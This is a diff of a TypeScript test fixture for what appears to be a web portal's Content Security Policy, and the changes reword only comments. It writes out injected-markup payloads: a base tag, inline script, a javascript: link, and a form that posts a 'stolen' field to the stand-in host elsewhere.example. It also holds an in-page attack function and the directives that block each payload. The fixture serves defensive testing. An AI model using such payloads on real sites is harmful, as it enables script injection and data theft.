@@ -1,9 +1,9 @@
-// What a person who can write into a page would try. Each attack that runs adds its name to `window.ran`.
+// Attacks by somebody who can write into a page. Each attack that runs adds its name to `window.ran`.
 
 const elsewhere = 'https://elsewhere.example'
 const run = (name: string) => `(window.ran = window.ran || []).push('${name}')`
 
-/** Markup in the page as it arrives, before any code of the portal: only the policy of the answer stands in its way. */
+/** Markup in the page as served, before any portal code runs. Only the response's policy can block it. */
 export const injectedText = `
   <base href="${elsewhere}/">
   <script>${run('inline script')}</script>
@@ -15,7 +15,10 @@ export const injectedText = `
   <a id="link" href="javascript:${run('javascript link')}">link</a>
   <form id="form" action="${elsewhere}/form" method="post"><input name="stolen" value="1"></form>`
 
-/** The directives that block all of this. Trusted Types come before the directive that would block eval. */
+/**
+ * Returns the directives that block all of these attacks. Trusted Types take effect before the directive that would
+ * block eval.
+ */
 export const blockedBy = (hasTrustedTypes: boolean) => [
   'base-uri',
   'script-src-elem',
@@ -27,7 +30,7 @@ export const blockedBy = (hasTrustedTypes: boolean) => [
   hasTrustedTypes ? 'require-trusted-types-for' : 'script-src',
 ]
 
-/** Without Trusted Types markup becomes elements, whose handlers the policy still keeps from running. */
+/** Even without Trusted Types, the policy keeps the handlers of injected elements from running. */
 export const harmless = (hasTrustedTypes: boolean) => ({
   hasTrustedTypes,
   ran: hasTrustedTypes ? [] : ['innerHTML'],
@@ -35,14 +38,14 @@ export const harmless = (hasTrustedTypes: boolean) => ({
   position: 'static',
 })
 
-/** What is attempted in the running page, sent there as its source. Returns what became of it. */
+/** Attacks the running page, which receives this function as source. Returns the results. */
 export async function attack() {
   const ran: string[] = []
   const attempt = (name: string, act: () => unknown) => {
     try {
       if (act() !== 'refused') ran.push(name)
     } catch {
-      // Refused.
+      // Blocked.
     }
   }
   attempt('link', () => {
@@ -76,7 +79,7 @@ export async function attack() {
     'javascript:1',
   ])
     window.postMessage(message, '*')
-  // Messages arrive in their order, so all have been heard once this one comes.
+  // Messages arrive in order, so this last message follows all others.
   const heard = new Promise((resolve) => {
     addEventListener('message', ({ data }) => data === 'last' && resolve(undefined))
   })
